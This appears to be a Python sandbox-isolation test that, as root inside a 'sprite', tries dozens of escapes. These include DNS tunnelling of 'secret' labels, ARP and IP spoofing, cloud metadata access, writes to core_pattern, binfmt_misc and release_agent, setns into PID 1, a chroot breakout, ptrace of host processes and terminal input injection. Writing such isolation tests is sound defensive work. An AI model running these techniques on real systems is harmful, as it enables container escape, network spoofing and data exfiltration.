"""
What root inside a sprite tries, to get out or around. Runs inside, with JSON in its first argument; prints one JSON
object: by the name of each attempt what came of it, `did <what>` or the name of the error.
"""
import array, ctypes, errno, fcntl, json, mmap, os, platform, signal, socket, struct, sys, time

given = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
# The same numbers on both architectures since the unified numbering of 2019; older ones by machine.
x86 = platform.machine() == "x86_64"
numbers = {
    name: pair[0 if x86 else 1]
    for name, pair in {
        "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "swapon": (167, 224),
        "reboot": (169, 142), "sethostname": (170, 161), "init_module": (175, 105),
        "delete_module": (176, 106), "finit_module": (313, 273), "kexec_load": (246, 104),
        "add_key": (248, 217), "keyctl": (250, 219), "bpf": (321, 280), "perf_event_open": (298, 241),
        "userfaultfd": (323, 282), "unshare": (272, 97), "setns": (308, 268), "clone": (56, 220),
        "clock_settime": (227, 112), "settimeofday": (164, 170), "adjtimex": (159, 171),
        "open_by_handle_at": (304, 265), "syslog": (103, 116), "acct": (163, 89), "quotactl": (179, 60),
        "ptrace": (101, 117), "process_vm_readv": (310, 270), "fanotify_init": (300, 262),
        "iopl": (172, -1), "sched_setscheduler": (144, 119), "setxattr": (188, 5),
    }.items()
}
numbers.update(io_uring_setup=425, open_tree=428, move_mount=429, fsopen=430, clone3=435, pidfd_open=434)

attempts = {}


def attempt(function):
    attempts[function.__name__.replace("_", " ")] = function


def call(name, *arguments):
    """A system call; raises what the kernel says."""
    values = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(numbers[name]), *values)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return f"did {name}"


def tcp(address, port, patience=2):
    with socket.create_connection((address, port), timeout=patience):
        return "did connect"


def each(work, items):
    """`refused` when every one of them fails, else what did not."""
    done = []
    for item in items:
        try:
            done.append(f"{item}: {work(item)}")
        except (OSError, ValueError):
            pass
    return "did " + ", ".join(done) if done else "refused"


def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return "did write"


def dns_query(name, kind=1, identity=0x1234):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", identity, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def ask(server, query, patience=10.0):
    """The code of the answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(patience)
        sock.connect((server, 53))
        sock.send(query)
        return sock.recv(4096)[3] & 15


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def udp_packet(source, target, port, payload):
    body = struct.pack("!4H", 1234, port, 8 + len(payload), 0) + payload
    head = struct.pack("!2B3H2BH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def link_frame(packet, kind=0x0800, target=None):
    own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    return (target or b"\xff" * 6) + own + struct.pack("!H", kind) + packet


def send_frames(frames):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        for frame in frames:
            sock.send(frame)
    return "did send"


def gateway_link():
    try:
        tcp(given["gateway"], 80, 0.5)
    except OSError:
        pass
    for line in open("/proc/net/arp"):
        if line.startswith(given["gateway"] + " "):
            return bytes.fromhex(line.split()[3].replace(":", ""))
    return None


# The network


@attempt
def a_raw_address():
    return tcp(given["other"], 80)


@attempt
def a_raw_address_at_every_usual_port():
    return each(lambda port: tcp(given["other"], port), [25, 53, 443, 853, 4444])


@attempt
def UDP_to_a_raw_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"raw-udp", (given["other"], 4444))
    return "did send"


@attempt
def a_server_that_answers_DNS_elsewhere():
    return each(lambda server: f"{ask(server, dns_query('x.' + given['public']), 0.4)}",
                [given["other"], given["resolver"], "8.8.8.8", "1.1.1.1"])


@attempt
def DNS_at_an_allowed_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"allowed-dns", (given["publicAddress"], 53))
    return tcp(given["publicAddress"], 53)


@attempt
def DNS_over_TLS_and_QUIC_at_an_allowed_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"allowed-doq", (given["publicAddress"], 853))
    return tcp(given["publicAddress"], 853)


@attempt
def known_resolvers_over_HTTPS():
    return each(lambda name: tcp(name, 443), ["dns.google", "cloudflare-dns.com", "8.8.8.8", "9.9.9.9"])


@attempt
def denied_names_that_carry_data():
    codes = {ask(given["gateway"], dns_query(f"{n:032x}-secret.tunnel.test")) for n in range(50)}
    return f"codes {sorted(codes)}"


@attempt
def denied_names_of_every_type():
    codes = {ask(given["gateway"], dns_query("secret.tunnel.test", kind))
             for kind in (1, 2, 5, 10, 12, 15, 16, 28, 33, 35, 64, 65, 99, 252, 255)}
    return f"codes {sorted(codes)}"


@attempt
def a_name_with_capitals_that_carry_data():
    name = "".join(c.upper() if n % 2 else c for n, c in enumerate("capitals." + given["wild"]))
    return f"code {ask(given['gateway'], dns_query(name))}"


@attempt
def a_question_with_data_behind_it():
    return f"code {ask(given['gateway'], dns_query(given['public']) + b'secret-trailer')}"


@attempt
def allowed_wildcards_that_carry_data():
    for n in range(300):
        try:
            ask(given["gateway"], dns_query(f"wildsecret{n:048x}.{given['wild']}"), 0.5)
        except OSError:
            pass
    return "did ask"


@attempt
def malformed_questions():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for message in (b"", b"\0", b"\xff" * 12, b"\0" * 4000, dns_query("a")[:-3], b"\1\2\1\0\0\1" + b"\0" * 6 + b"\xc0\x0c"):
            sock.sendto(message, (given["gateway"], 53))
    return f"code {ask(given['gateway'], dns_query(given['public']))}"


@attempt
def a_name_that_is_rebound_to_private_addresses():
    return f"code {ask(given['gateway'], dns_query('rebound.example.test'))}"


@attempt
def IPv6():
    def connect(address):
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
            sock.settimeout(1)
            sock.connect((address, 80, 0, socket.if_nametoindex("eth0")))
            return "did connect"
    return each(connect, ["2001:4860:4860::8888", "fe80::1", "ff02::1", "::ffff:" + given["other"]])


@attempt
def IPv6_turned_on():
    return each(lambda name: write(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6", "0"), ["all", "eth0"])


@attempt
def IPv6_frames():
    packet = bytes.fromhex("6000000000083aff") + b"\xfe\x80" + b"\0" * 13 + b"\1" + b"\xff\2" + b"\0" * 13 + b"\1" + b"\x80\0\0\0\0\0\0\0"
    return send_frames([link_frame(packet, 0x86DD)])


@attempt
def link_local_and_metadata_addresses():
    return each(lambda address: tcp(address, 80, 1),
                ["169.254.169.254", "169.254.1.1", "100.100.100.200", "168.63.129.16", "192.0.0.192"])


@attempt
def private_addresses():
    return each(lambda address: tcp(address, 80, 1), ["10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "0.0.0.0"])


@attempt
def the_ports_of_the_gateway_and_the_machine():
    ports = [22, 80, 111, 443, 2375, 6443, given["serverPort"]]
    addresses = [given["gateway"], given["linkAddress"], "127.0.0.1", "172.17.0.1"]
    return each(lambda at: tcp(at[0], at[1], 0.5), [(a, p) for a in addresses for p in ports])


@attempt
def another_sprite():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"to-the-victim", (given["victim"], 9001))
    return tcp(given["victim"], 9000)


@attempt
def ICMP_to_what_is_not_allowed():
    def ping(address):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            sock.settimeout(0.4)
            body = struct.pack("!2B3H", 8, 0, 0, 7, 1) + b"secret-ping-data"
            sock.sendto(body[:2] + struct.pack("!H", checksum(body)) + body[4:], (address, 0))
            while True:
                if sock.recv(2048)[20] == 0:
                    return "did echo"
    return each(ping, [given["other"], given["victim"]])


@attempt
def packets_with_another_sprites_address():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for source in (given["victim"], "198.51.100.99"):
            sock.sendto(udp_packet(source, given["publicAddress"], 4444, b"spoofed-ip"), (given["publicAddress"], 0))
    return "did send"


@attempt
def frames_with_another_sprites_address():
    link = gateway_link()
    return send_frames([link_frame(udp_packet(given["victim"], given["publicAddress"], 4444, b"spoofed-link"), 0x0800, link)] * 3)


@attempt
def ARP_for_another_sprites_address():
    own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    arps = [struct.pack("!2H2BH", 1, 0x0800, 6, 4, kind) + own + socket.inet_aton(claimed)
            + b"\xff" * 6 + socket.inet_aton(given["gateway"])
            for claimed in (given["victim"], given["gateway"]) for kind in (1, 2)]
    return send_frames([link_frame(arp, 0x0806) for arp in arps] * 5)


@attempt
def fragments_that_hide_the_port():
    whole = udp_packet(given["address"], given["publicAddress"], 53, b"fragmented-dns" * 8)
    parts = []
    for start, end, more in ((20, 28, 0x2000), (28, len(whole), 0)):
        head = whole[:2] + struct.pack("!3H", 20 + end - start, 7, more | (start - 20) // 8) + whole[8:10] + b"\0\0" + whole[12:20]
        parts.append(head[:10] + struct.pack("!H", checksum(head)) + head[12:] + whole[start:end])
    return send_frames([link_frame(part, 0x0800, gateway_link()) for part in parts])


@attempt
def its_own_addresses_routes_and_links():
    return each(lambda words: "did" if os.system(f"ip {words} >/dev/null 2>&1") == 0 else write("/nowhere/x", ""), [
        f"address add {given['victim']}/32 dev eth0", "route add 10.0.0.0/8 dev eth0", "link set eth0 down",
        "link add dummy0 type dummy", "link add link eth0 name v0 type macvlan", "tuntap add mode tun name tun0",
        "rule add from all lookup 7", "netns add other"])


@attempt
def its_own_firewall():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as sock:
        # NFT_MSG_GETTABLE: only who may change a firewall may read it.
        sock.send(struct.pack("=IHHII", 20, 0x0A01, 0x305, 1, 0) + b"\0\0\0\0")
        error = struct.unpack("=i", sock.recv(4096)[16:20])[0]
        raise OSError(-error, "netlink")


@attempt
def unusual_kinds_of_sockets():
    def make(family):
        socket.socket(family, socket.SOCK_DGRAM).close()
        return "did"
    # IPX, ATM, X.25, RDS, CAN, TIPC, Bluetooth, ALG, NFC, vsock, KCM, QIPC, SMC, XDP
    return each(make, [4, 8, 9, 21, 29, 30, 31, 38, 39, 40, 41, 42, 43, 44])


# The kernel


@attempt
def mounting():
    done = []
    for name, arguments in {
        "mount": (b"none", b"/mnt", b"tmpfs", 0, None), "umount2": (b"/proc", 2), "pivot_root": (b"/", b"/mnt"),
        "fsopen": (b"tmpfs", 0), "open_tree": (-100, b"/", 1), "move_mount": (-1, b"", -100, b"/mnt", 4),
    }.items():
        try:
            done.append(call(name, *arguments))
        except OSError as error:
            if error.errno != errno.EPERM:
                done.append(f"{name} {errno.errorcode[error.errno]}")
    return "did " + ", ".join(done) if done else "EPERM"


@attempt
def remounting_what_is_read_only():
    return each(lambda path: call("mount", b"none", path, b"", 0x20 | 0x1000, None), [b"/.sprite", b"/proc/sys", b"/sys"])


def node(kind, major, minor):
    path = f"/tmp/node-{major}-{minor}"
    try:
        os.mknod(path, kind | 0o666, os.makedev(major, minor))
        os.close(os.open(path, os.O_RDWR))
        return "did open"
    finally:
        if os.path.lexists(path):
            os.unlink(path)


@attempt
def device_nodes_of_disks():
    return each(lambda at: node(0o060000, *at), [(8, 0), (7, 0), (7, 1), (259, 0), (254, 0), (252, 0)])


@attempt
def device_nodes_of_memory_and_kernel():
    # mem, kmem, port, kmsg, fuse, kvm, loop-control, tun, vhost-net, uinput
    return each(lambda at: node(0o020000, *at), [(1, 1), (1, 2), (1, 4), (1, 11), (10, 229), (10, 232), (10, 237), (10, 200), (10, 238), (10, 223)])


@attempt
def device_nodes_on_other_file_systems():
    def make(directory):
        path = f"{directory}/node"
        os.mknod(path, 0o060666, os.makedev(7, 0))
        try:
            os.close(os.open(path, os.O_RDONLY))
            return "did open"
        finally:
            os.unlink(path)
    return each(make, ["/dev", "/dev/shm", "/run", "/var/tmp"])


@attempt
def loading_a_module():
    return each(lambda work: work(), [
        lambda: call("init_module", b"x", 1, b""), lambda: call("finit_module", 0, b"", 0), lambda: call("delete_module", b"loop", 0)])


@attempt
def another_kernel():
    return call("kexec_load", 0, 0, 0, 0)


@attempt
def reboot():
    return call("reboot", 0xFEE1DEAD - 2**32, 672274793, 0x1234567, 0)


@attempt
def the_clock():
    value = struct.pack("=2q", 1, 0)
    buffer = ctypes.create_string_buffer(b"\1\0\0\0" + b"\0" * 400)
    return each(lambda work: work(), [
        lambda: call("clock_settime", 0, value), lambda: call("settimeofday", value, None), lambda: call("adjtimex", buffer)])


@attempt
def keyrings():
    return each(lambda work: work(), [
        lambda: call("add_key", b"user", b"x", b"y", 1, -3), lambda: call("keyctl", 0, -5, 1), lambda: open("/proc/keys").read()[:1] or write("/nowhere/x", "")])


@attempt
def bpf():
    return call("bpf", 0, ctypes.create_string_buffer(128), 128)


@attempt
def perf_events():
    return call("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)


@attempt
def userfaultfd():
    return call("userfaultfd", 0)


@attempt
def io_uring():
    return call("io_uring_setup", 8, ctypes.create_string_buffer(128))


@attempt
def new_namespaces():
    flags = [0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000, 0x80]
    return each(lambda flag: call("unshare", flag), flags)


@attempt
def a_child_in_new_namespaces():
    def clone(flag):
        child = libc.syscall(ctypes.c_long(numbers["clone"]), ctypes.c_long(flag | signal.SIGCHLD), 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child < 0:
            raise OSError(ctypes.get_errno(), "clone")
        os.waitpid(child, 0)
        return "did clone"
    return each(clone, [0x10000000, 0x10020000, 0x40000000])


@attempt
def clone3():
    return call("clone3", ctypes.create_string_buffer(88), 88)


@attempt
def the_first_process_namespaces():
    def enter(kind):
        descriptor = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        return call("setns", descriptor, 0)
    return each(enter, ["mnt", "pid", "net", "user", "ipc"])


@attempt
def files_by_their_handles():
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 8, 1) + struct.pack("=2I", 2, 0))
    return call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, 0)


@attempt
def the_kernels_log_accounting_and_quotas():
    return each(lambda work: work(), [
        lambda: call("syslog", 3, ctypes.create_string_buffer(64), 64), lambda: call("acct", b"/tmp/acct"),
        lambda: call("quotactl", 0x800002, b"/dev/loop0", 0, 0), lambda: call("fanotify_init", 0, 0), lambda: call("swapon", b"/tmp/x", 0)])


@attempt
def ports_of_the_hardware():
    return call("iopl", 3) if x86 else "EPERM"


@attempt
def system_calls_of_another_word_size():
    if not x86:
        return "killed"
    child = os.fork()
    if child == 0:
        # mov eax, 20 (getpid); int 0x80; ret
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
        result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
        os._exit(0 if result > 0 else 1)
    status = os.waitpid(child, 0)[1]
    return "killed" if os.WIFSIGNALED(status) else f"did exit with {os.WEXITSTATUS(status)}"


@attempt
def a_processor_for_itself():
    return call("sched_setscheduler", 0, 1, struct.pack("=i", 50))


@attempt
def being_spared_when_memory_runs_out():
    return write("/proc/self/oom_score_adj", "-1000")


@attempt
def the_hosts_name():
    return call("sethostname", b"stolen", 6)


# Files of the kernel


@attempt
def settings_of_the_kernel():
    return each(lambda at: write(*at), [
        ("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/sys/kernel/modprobe", "/tmp/x"), ("/proc/sys/kernel/panic", "1"),
        ("/proc/sys/vm/overcommit_memory", "1"), ("/proc/sys/net/ipv4/ip_forward", "1"), ("/proc/sys/fs/file-max", "1"),
        ("/proc/sys/kernel/randomize_va_space", "0"), ("/proc/sys/fs/binfmt_misc/register", ":x:E::x::/tmp/x:")])


@attempt
def sysrq():
    return write("/proc/sysrq-trigger", "b")


@attempt
def control_groups():
    def try_at(path):
        return write(path, "1")
    roots = [root for root, _, _ in os.walk("/sys/fs/cgroup")][:40]
    names = ["cgroup.procs", "memory.limit_in_bytes", "memory.max", "pids.max", "release_agent", "notify_on_release", "devices.allow", "cgroup.subtree_control", "cpu.cfs_quota_us"]
    return each(try_at, [f"{root}/{name}" for root in roots for name in names if os.path.exists(f"{root}/{name}")])


@attempt
def a_control_group_of_its_own():
    def make(name):
        path = f"/sys/fs/cgroup/{name}/escape"
        os.mkdir(path)
        # What has no such file is a directory of the sprite's own tmpfs.
        return "did make" if os.path.exists(f"{path}/cgroup.procs") else write("/nowhere/x", "")
    return each(make, ["memory", "pids", "devices", "unified", "."])


@attempt
def the_machines_devices_in_sys():
    return each(lambda at: write(*at), [
        ("/sys/kernel/rcu_expedited", "1"), ("/sys/kernel/uevent_helper", "/tmp/x"), ("/sys/power/state", "mem"),
        ("/sys/block/loop0/queue/read_ahead_kb", "0"), ("/sys/class/net/eth0/mtu", "9000")]
        + [(f"/sys/fs/fuse/connections/{name}/abort", "1") for name in (os.listdir("/sys/fs/fuse/connections") if os.path.isdir("/sys/fs/fuse/connections") else [])])


@attempt
def what_the_kernel_tells_of_the_machine():
    # Masked files read as nothing; addresses read as zeros.
    texts = {path: open(path).read(4096) for path in ("/proc/kallsyms", "/proc/iomem", "/proc/interrupts", "/proc/timer_list", "/proc/keys", "/proc/sched_debug") if os.path.exists(path)}
    shown = [path for path, text in texts.items() if any(word.strip("0-:") and path not in ("/proc/kallsyms", "/proc/iomem") for word in text.split()[:1])]
    zeros = all(int(line.split()[0], 16) == 0 for line in texts.get("/proc/kallsyms", "").splitlines()[:20] if line)
    return "refused" if zeros and not shown else f"did read {shown}"


@attempt
def the_kernels_memory():
    return each(lambda path: open(path, "rb").read(64).hex() or write("/nowhere/x", ""), ["/proc/kcore", "/dev/mem", "/dev/kmem", "/proc/kmsg"])


# The sprite's own server


@attempt
def what_the_agent_puts_inside():
    return each(lambda work: work(), [
        lambda: write("/.sprite/policy/network.json", "{}"), lambda: os.rename("/.sprite/policy", "/.sprite/p") or "did", lambda: write("/.sprite/x", ""),
        lambda: os.unlink("/.sprite/api.sock") or "did", lambda: os.symlink("/etc/shadow", "/.sprite/bin/x") or "did", lambda: os.rename("/.sprite", "/sprite") or "did",
        lambda: os.chmod("/.sprite/run", 0o777) or "did", lambda: os.listdir("/.sprite/run") and "did list"])


@attempt
def the_first_process_root():
    # The same root as one's own, also by a detour that chroot leaves open.
    os.makedirs("/tmp/jail", exist_ok=True)
    child = os.fork()
    if child == 0:
        inside = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(inside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        os._exit(0 if os.path.exists(given["hostDirectory"]) else 1)
    escaped = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
    paths = [f"/proc/1/root{given['hostDirectory']}", f"/proc/1/cwd/../../..{given['hostDirectory']}"]
    return "did leave" if escaped or any(os.path.exists(path) for path in paths) else "refused"


def host_processes():
    """Their numbers may be those of processes inside, which are the guest's own."""
    return [pid for pid in given["hostProcesses"] if not os.path.exists(f"/proc/{pid}")]


@attempt
def tracing_a_process_of_the_machine():
    return each(lambda pid: call("ptrace", 16, pid, 0, 0), host_processes())


@attempt
def signals_to_processes_of_the_machine():
    return each(lambda pid: os.kill(pid, 0) or "did", host_processes())


@attempt
def abstract_sockets_of_the_machine():
    names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
    return f"did see {names}" if names else "refused"


@attempt
def extended_attributes_of_the_overlay():
    os.makedirs("/tmp/overlay", exist_ok=True)
    return each(lambda name: call("setxattr", b"/tmp/overlay", name, b"/etc", 4, 0),
                [b"trusted.overlay.redirect", b"trusted.overlay.opaque", b"trusted.overlay.origin", b"security.evm"])


@attempt
def input_pushed_into_anothers_terminal():
    def push(name):
        terminal = os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(terminal, 0x5412, b"x")
        return "did push"
    names = [name for name in os.listdir("/dev/pts") if name.isdigit()]
    if not names:
        return "no terminal"
    return each(push, names)


results = {}
for name, function in attempts.items():
    try:
        results[name] = function()
    except OSError as error:
        results[name] = errno.errorcode.get(error.errno, type(error).__name__) if error.errno else type(error).__name__
    except Exception as error:
        results[name] = f"BROKEN {type(error).__name__}: {error}"
print(json.dumps(results))
